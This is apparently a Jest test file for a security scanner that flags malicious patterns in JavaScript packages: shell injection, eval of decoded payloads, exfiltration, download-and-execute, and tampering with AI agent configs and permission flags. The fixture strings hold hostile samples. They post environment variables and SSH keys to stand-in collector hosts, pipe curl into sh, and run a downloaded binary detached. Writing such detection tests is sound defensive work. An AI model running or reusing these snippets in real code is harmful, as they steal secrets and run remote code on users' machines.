import { analyzeJsSource } from './js-source.analyzer';

const run = (text: string, path = 'dist/index.js', options = { vendored: false, testOrDocs: false }) => analyzeJsSource(path, text, options);
const summary = (text: string, path?: string) => run(text, path).map((f) => `${f.ruleId} ${f.severity} ${f.location}`);

describe('JS/TS source rules', () => {
  describe('TP-SRC-002 command execution', () => {
    it('flags exec with a template built from input', () => {
      expect(summary(`import { exec } from 'node:child_process';\nexport function run(name) {\n  exec(\`git log \${name}\`);\n}`)).toEqual(['TP-SRC-002 high dist/index.js:3']);
    });
    it('flags spawn with shell: true and dynamic arguments, through a namespace alias', () => {
      expect(summary(`const cp = require('child_process');\ncp.spawn('sh', ['-c', cmd], { shell: true });`)).toEqual(['TP-SRC-002 high dist/index.js:2']);
    });
    it('leaves constant commands, execFile with an argument array, and RegExp.exec alone', () => {
      const text = `const { exec, execFile } = require('child_process');\nconst CMD = 'git --version';\nexec(CMD);\nexec('ls -la');\nexecFile('git', ['log', ref]);\n/a/.exec(input);\nspawn(cmd, args);`;
      expect(summary(text)).toEqual([]);
    });
    it('is skipped in tests and vendored code', () => {
      const text = `import { exec } from 'child_process';\nexec(userInput);`;
      expect(run(text, 'test/x.test.js', { vendored: false, testOrDocs: true })).toEqual([]);
      expect(run(text, 'node_modules/x/index.js', { vendored: true, testOrDocs: false })).toEqual([]);
    });
  });

  describe('TP-SRC-003 dynamic code of decoded data', () => {
    it('flags eval of a base64 payload held in a constant', () => {
      expect(summary(`const p = 'ZmV0Y2goImh0dHBzOi8vZXZpbCIp';\nconst code = Buffer.from(p, 'base64').toString();\neval(code);`)).toEqual(['TP-SRC-003 critical dist/index.js:3']);
    });
    it('flags new Function over atob and vm.runInThisContext over hex', () => {
      expect(summary(`new Function(atob(s))();\nconst vm = require('vm');\nvm.runInThisContext(Buffer.from(h, 'hex').toString('utf8'));`)).toEqual([
        'TP-SRC-003 critical dist/index.js:1',
        'TP-SRC-003 critical dist/index.js:3',
      ]);
    });
    it('flags require of decoded data and char-code strings', () => {
      expect(summary(`require(String.fromCharCode(99, 104, 105, 108, 100))`)).toEqual(['TP-SRC-003 critical dist/index.js:1']);
    });
    it('leaves template engines compiling non-decoded strings and literal evals alone', () => {
      expect(summary(`const fn = new Function('a', 'b', body);\neval('1 + 1');\nconst mod = require(name);`)).toEqual([]);
    });
  });

  describe('TP-SRC-005 exfiltration', () => {
    it('flags the environment sent to a webhook as critical', () => {
      expect(summary(`async function init() {\n  await fetch('https://webhook.site/abc', { method: 'POST', body: JSON.stringify(process.env) });\n}`)).toEqual([
        'TP-SRC-005 critical dist/index.js:2',
      ]);
    });
    it('flags an SSH key read and posted through https.request, following the variable', () => {
      const text = `const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\nfunction go() {\n  const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n  const req = https.request({ host: 'collector.example', method: 'POST' });\n  req.write(key);\n  https.request({ path: '/?k=' + encodeURIComponent(key) });\n}`;
      expect(summary(text)).toEqual(['TP-SRC-005 critical dist/index.js:7']);
    });
    it('is high when a credential file and the network share a function without a visible flow', () => {
      const text = `import { readFile } from 'fs/promises';\nimport { join } from 'path';\nimport { homedir } from 'os';\nexport async function sync() {\n  const npmrc = await readFile(join(homedir(), '.npmrc'), 'utf8');\n  parse(npmrc);\n  await fetch(url);\n}`;
      expect(summary(text)).toEqual(['TP-SRC-005 high dist/index.js:7']);
    });
    it('leaves a child process given the environment, and an own .env read, alone', () => {
      const text = `import { spawn } from 'child_process';\nimport { readFileSync } from 'fs';\nexport function start() {\n  const cfg = readFileSync('.env', 'utf8');\n  spawn('node', ['server.js'], { env: { ...process.env, PORT: '1' } });\n  return fetch('https://api.example.com/v1');\n}`;
      expect(summary(text)).toEqual([]);
    });
  });

  describe('TP-SRC-006 download and execute', () => {
    it('flags fetch, write, chmod and detached spawn across callbacks', () => {
      const text = `const https = require('https');\nconst fs = require('fs');\nconst { spawn } = require('child_process');\nfunction install() {\n  https.get('https://x.example/bin', (res) => {\n    const out = fs.createWriteStream('/tmp/.x');\n    res.pipe(out);\n    out.on('finish', () => { fs.chmodSync('/tmp/.x', 0o755); spawn('/tmp/.x', [], { detached: true }).unref(); });\n  });\n}`;
      expect(summary(text)).toEqual(['TP-SRC-006 critical dist/index.js:8']);
    });
    it('flags curl | sh in exec and eval of fetched text', () => {
      expect(summary(`const { execSync } = require('child_process');\nexecSync('curl -fsSL https://x.example/i.sh | sh');\nasync function f() { const r = await fetch(u); const t = await r.text(); eval(t); }`)).toEqual([
        'TP-SRC-006 critical dist/index.js:2',
        'TP-SRC-006 critical dist/index.js:3',
      ]);
    });
  });

  describe('TP-SRC-007 agent configuration', () => {
    it('flags writes to CLAUDE.md (critical) and claude_desktop_config.json (high)', () => {
      const text = `import fs from 'node:fs';\nimport path from 'node:path';\nfs.appendFileSync(path.join(process.cwd(), 'CLAUDE.md'), rules);\nconst cfg = path.join(os.homedir(), 'Library', 'Application Support', 'Claude', 'claude_desktop_config.json');\nfs.writeFileSync(cfg, JSON.stringify(config));`;
      expect(summary(text)).toEqual(['TP-SRC-007 critical dist/index.js:3', 'TP-SRC-007 high dist/index.js:5']);
    });
    it('flags AI CLIs run with permission checks disabled', () => {
      expect(summary(`const { spawnSync } = require('child_process');\nspawnSync('claude', ['--dangerously-skip-permissions', '-p', prompt]);`)).toEqual(['TP-SRC-007 critical dist/index.js:2']);
    });
    it('leaves reading the config alone', () => {
      expect(summary(`import fs from 'fs';\nconst c = fs.readFileSync('.cursor/mcp.json', 'utf8');`)).toEqual([]);
    });
  });
});

describe('TP-SRC-005 severity tiers', () => {
  const text = (path: string, host: string) =>
    `const fs = require('fs');\nasync function call() {\n  const token = fs.readFileSync(${JSON.stringify(path)}, 'utf8');\n  return fetch(${JSON.stringify(host)}, { headers: { authorization: token } });\n}`;
  it.each([
    ['~/.ssh/id_ed25519', 'https://api.example.com', 'critical'],
    ['~/.npmrc', 'https://registry.npmjs.org/-/whoami', 'high'],
    ['~/.npmrc', 'https://abc.ngrok.io/x', 'critical'],
    ['.env', 'https://api.weather.example/v1', 'medium'],
    ['.env', 'https://webhook.site/x', 'critical'],
  ])('%s sent to %s is %s', (path, host, severity) => {
    expect(analyzeJsSource('index.js', text(path, host), { vendored: false, testOrDocs: false }).map((f) => f.severity)).toEqual([severity]);
  });
});

describe('variables are traced per function, as bundles reuse names', () => {
  it('does not confuse a name in one module with the same name in another (ajv in a bundle)', () => {
    const text = `async function load(u) {\n  const sourceCode = await (await fetch(u)).text();\n  return sourceCode.length;\n}\nfunction compile(gen) {\n  const sourceCode = 'return ' + gen.toString();\n  return new Function('self', sourceCode);\n}`;
    expect(run(text)).toEqual([]);
  });
  it('follows a variable of an enclosing function into a nested one', () => {
    const text = `function outer() {\n  const code = Buffer.from(blob, 'base64').toString();\n  function inner() { return eval(code); }\n  return inner;\n}`;
    expect(summary(text)).toEqual(['TP-SRC-003 critical dist/index.js:3']);
  });
});

describe('aliases', () => {
  it('follows promisify(exec)', () => {
    expect(summary(`import { exec } from 'child_process';\nimport { promisify } from 'util';\nconst execAsync = promisify(exec);\nawait execAsync(\`kubectl get \${kind}\`);`)).toEqual(['TP-SRC-002 high dist/index.js:4']);
    expect(summary(`const cp = require('node:child_process');\nconst run = require('util').promisify(cp.exec);\nrun('ls ' + dir);`)).toEqual(['TP-SRC-002 high dist/index.js:3']);
  });
});

describe('Function by another name', () => {
  it('flags [].constructor.constructor over decoded data', () => {
    expect(summary(`[].constructor.constructor(atob(p))();`)).toEqual(['TP-SRC-003 critical dist/index.js:1']);
  });
});

describe('dynamic import', () => {
  it('flags import() of decoded data', () => {
    expect(summary(`await import(Buffer.from(u, 'base64').toString());\nawait import('./literal.js');`)).toEqual(['TP-SRC-003 critical dist/index.js:1']);
  });
});

describe('paths set per platform', () => {
  it('sees every value a path variable takes', () => {
    const text = `import { writeFileSync } from 'fs';\nlet p;\nif (win) p = join(process.env.APPDATA, 'Claude', 'claude_desktop_config.json');\nelse p = join(homedir(), '.config', 'Claude', 'claude_desktop_config.json');\nwriteFileSync(p, JSON.stringify(cfg));`;
    expect(summary(text)).toEqual(['TP-SRC-007 high dist/index.js:5']);
  });
});

describe('values of several branches are not one command line', () => {
  it('does not read two alternatives as a pipe', () => {
    const text = `const { execSync } = require('child_process');\nlet cmd;\nif (a) cmd = 'curl -O https://x.example/f.tgz';\nelse cmd = 'sh ./install.sh';\nexecSync(cmd);`;
    expect(summary(text)).toEqual([]);
  });
});
